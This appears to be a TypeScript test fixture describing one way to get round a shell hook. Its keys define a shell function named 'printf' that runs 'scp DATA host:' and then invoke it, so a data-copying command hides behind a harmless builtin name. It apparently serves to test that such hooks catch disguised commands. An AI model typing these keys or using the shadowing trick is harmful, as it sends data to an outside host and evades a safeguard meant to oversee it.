import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a function called printf',
  source: 'attempts to get round a hook of the shell',
  keys: ['printf() { scp DATA host:; }\r', 'printf x\r'],
};
